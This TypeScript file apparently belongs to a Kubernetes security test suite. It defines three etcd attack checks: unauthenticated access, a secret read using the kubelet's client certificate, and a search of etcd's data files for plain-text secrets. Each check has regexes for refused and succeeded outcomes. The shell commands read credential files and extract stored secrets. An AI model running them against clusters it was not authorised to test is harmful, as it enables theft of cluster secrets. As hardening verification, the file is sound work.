import { type Attack, type Outcome, said, type Target, textOf } from './attack';
import { scenery } from './scenery';
import { curl, curlCommand, liftFirewall } from './steps';

const etcdUrl = (target: Target, path: string) => `https://${target.controlPlane.address}:2379${path}`;

/** etcdctl with etcd's own client credential, as root on the control plane has it. */
const etcdctl = (command: string) => `etcdctl --endpoints=https://127.0.0.1:2379 \
  --cacert=/etc/kubernetes/pki/etcd/ca.crt --cert=/etc/kubernetes/pki/etcd/healthcheck-client.crt \
  --key=/etc/kubernetes/pki/etcd/healthcheck-client.key ${command}`;

/** Reads one key over etcd's JSON gateway with the certificate that a kubelet has from the cluster's CA. */
const rangeAsKubelet = (target: Target) => {
  const credential = '/var/lib/kubelet/pki/kubelet-client-current.pem';
  const key = Buffer.from(`/registry/secrets/${scenery.app}/db`).toString('base64');
  const body = JSON.stringify({ key });
  return curlCommand(
    '--tls-max',
    '1.2',
    '--cert',
    credential,
    '--key',
    credential,
    '-d',
    body,
    etcdUrl(target, '/v3/kv/range'),
  );
};

/** The value as stored, and how often its plain text occurs in etcd's files, write-ahead log included. */
const atRest = `key=/registry/secrets/${scenery.app}/db
${etcdctl('get --print-value-only "$key"')} | head -c 24 | tr -c '[:print:]' '.'; echo
cp -r /var/lib/etcd/member /tmp/etcd-copy
echo "canary in files: $(cat $(find /tmp/etcd-copy -type f) | grep -a -c '${scenery.canary}')"
rm -rf /tmp/etcd-copy`;

/** Attacks on etcd and on what it keeps. */
export const etcdAttacks: readonly Attack[] = [
  {
    id: 'A22',
    title: 'Talk to etcd without a client certificate',
    source: 'kube-hunter EtcdRemoteAccess; MS-M9024',
    weakness: 'etcd-open',
    async run(target) {
      // With TLS 1.3 the refusal comes after the handshake: OpenSSL shows it, curl may miss it.
      const talk = `printf 'GET /version HTTP/1.0\\r\\n\\r\\n' | timeout 3 openssl s_client -quiet -tls1_3 -connect`;
      const address = `${target.controlPlane.address}:2379`;
      const inside = await target.onNode(target.controlPlane, `${talk} ${address}`);
      const outside = await target.outside(curl(etcdUrl(target, '/version')));
      return said(`inside: ${textOf(inside)}\noutside: ${textOf(outside)}`, outside.code);
    },
    refused: /inside: [\s\S]*tlsv13 alert certificate required[\s\S]*outside: [\s\S]*curl: \(28\)/,
    succeeds: /inside: [\s\S]*"etcdserver"[\s\S]*outside: \{"etcdserver"/,
    // The connection opens, and is then refused for want of a certificate.
    lift: { ...liftFirewall((target) => target.controlPlane), opens: /outside: [\s\S]*curl: \((35|55|56)\)/ },
  },
  {
    id: 'A23',
    title: "Talk to etcd with a kubelet's certificate",
    source: 'kubeadm PKI: etcd has a CA of its own',
    weakness: 'etcd-open',
    run: (target: Target): Promise<Outcome> => target.onNode(target.controlPlane, rangeAsKubelet(target)),
    refused: /alert (unknown ca|unknown certificate authority|bad certificate)/i,
    succeeds: /"kvs":\[\{"key":[\s\S]*HTTP 200/,
  },
  {
    id: 'A24',
    title: "Read a secret from etcd's files",
    source: 'MS-M9024; CIS 1.2.27; kubernetes/kubernetes #53301',
    run: (target) => target.onNode(target.controlPlane, atRest),
    refused: /^k8s:enc:secretbox:v1:[\s\S]*canary in files: 0$/m,
    succeeds: /^k8s\.[\s\S]*canary in files: [1-9]/m,
  },
];
